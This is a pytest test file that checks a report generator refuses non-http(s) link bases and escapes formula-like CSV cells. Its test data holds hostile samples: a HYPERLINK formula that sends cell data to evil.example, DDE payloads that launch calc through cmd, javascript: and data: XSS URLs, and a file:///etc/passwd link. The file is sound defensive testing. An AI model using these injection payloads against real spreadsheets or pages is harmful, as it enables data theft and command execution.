"""Report output is safe to open: run links only to http(s), CSV cells never formulas."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from report_synth import fill_suite

from harness.cli import main
from harness.report import write_report
from harness.report.safety import (
    FORMULA_START,
    ReportInputError,
    check_ui_base,
    escape_cell,
    escape_formulas,
)

# labels a spreadsheet would run: each starts with a formula character
FORMULA_LABELS = {
    "realnvp": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "maf": "-2+3+cmd|' /C calc'!A0",
    "glow": "@SUM(1+1)*cmd|' /C calc'!A0",
    "gaussian": "\t=1+1",
}


@pytest.mark.parametrize("ui_base", [
    "http://127.0.0.1:5000", "https://mlflow.example.org/base/", "HTTP://HOST:5000"])
def test_http_ui_bases_are_accepted(ui_base):
    assert check_ui_base(ui_base) == ui_base


@pytest.mark.parametrize(("ui_base", "why"), [
    ("javascript:alert(document.cookie)", "scheme 'javascript' is not allowed"),
    ("JaVaScRiPt:alert(1)", "scheme 'javascript' is not allowed"),
    ("data:text/html,<script>alert(1)</script>", "scheme 'data'"),
    ("file:///etc/passwd", "scheme 'file'"),
    ("//evil.example", "scheme '\\(none\\)'"),
    ("mlflow.example:5000", "scheme 'mlflow.example'"),
    ("http://", "no host"),
    ("http://user:pw@mlflow.example", "credentials in a published link"),
    ("http://mlflow.example/#x", "fragment"),
    ("http://mlflow.example/\njavascript:alert(1)", "control characters"),
    (" http://mlflow.example", "control characters"),
    ("http://[::1", "not a URL"),
    ("http://h/" + "a" * 3000, "more than 2048"),
    ("", "expected an http\\(s\\) URL"),
])
def test_other_ui_bases_are_refused(ui_base, why):
    with pytest.raises(ReportInputError, match=f"--ui-base.*{why}") as err:
        check_ui_base(ui_base)
    assert isinstance(err.value, ValueError) and len(str(err.value)) < 400


def test_a_javascript_ui_base_is_refused_before_anything_is_read_or_written(tmp_path, capsys):
    db, out = tmp_path / "m.db", tmp_path / "site"
    with pytest.raises(ReportInputError):
        write_report(["any"], f"sqlite:///{db}", out, ui_base="javascript:alert(1)")
    assert main(["report", "any", "--tracking-uri", f"sqlite:///{db}", "--out", str(out),
                 "--ui-base", "javascript:alert(1)"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: --ui-base 'javascript:alert(1)': scheme 'javascript'")
    assert "Traceback" not in err
    assert not db.exists() and not out.exists()


def test_escape_cell_keeps_numbers_and_plain_text():
    assert escape_cell("=1+1") == "'=1+1"
    assert escape_cell("\r=1") == "'\r=1"
    assert escape_cell("-1.5e-3") == "-1.5e-3" and escape_cell("+2") == "+2"
    assert escape_cell("-inf") == "'-inf"  # not a number a spreadsheet reads
    assert escape_cell("realnvp") == "realnvp" and escape_cell(-1.5) == -1.5
    frame = pd.DataFrame({"=x": ["=1", "a"], "v": [-1.0, 2.0], "n": [-3, 4]})
    out = escape_formulas(frame)
    assert list(out.columns) == ["'=x", "v", "n"]
    assert out["'=x"].tolist() == ["'=1", "a"]
    assert out["v"].tolist() == [-1.0, 2.0] and out["n"].dtype == frame["n"].dtype


def test_hostile_labels_are_not_formulas_in_any_csv(tmp_path):
    uri = f"sqlite:///{tmp_path / 'm.db'}"
    fill_suite(uri, "formula", [("realnvp", "moons", "none", [0, 1]),
                                ("maf", "moons", "none", [0]), ("glow", "moons", "none", [0]),
                                ("gaussian", "moons", "none", [0])],
               artifact_root=tmp_path / "art", points=5, arch_labels=FORMULA_LABELS,
               data_options={"note": "@SUM(9)"})
    index = write_report(["formula"], uri, tmp_path / "site")
    data = index.parent / "data"
    csvs = sorted(data.glob("*.csv"))
    assert len(csvs) > 5
    cells, numbers = 0, 0
    for path in csvs:
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    cells += 1
                    if cell.startswith(FORMULA_START):
                        # a formula character may start only a plain number
                        float(cell)
                        numbers += 1
    assert cells > 100 and numbers > 0  # negative numbers stay numbers
    runs_csv = pd.read_csv(data / "runs.csv")
    runs_parquet = pd.read_parquet(data / "runs.parquet")
    for label in FORMULA_LABELS.values():  # escaped in the CSV, as it is in the Parquet
        assert "'" + label in set(runs_csv["arch_label"])
        assert label in set(runs_parquet["arch_label"])
    assert set(runs_csv["data.note"]) == {"'@SUM(9)"}
    for col in runs_parquet.select_dtypes("number").columns:  # numeric columns stay numeric
        assert pd.api.types.is_numeric_dtype(runs_csv[col]), col
    assert Path(index).read_text().count("javascript:") == 0
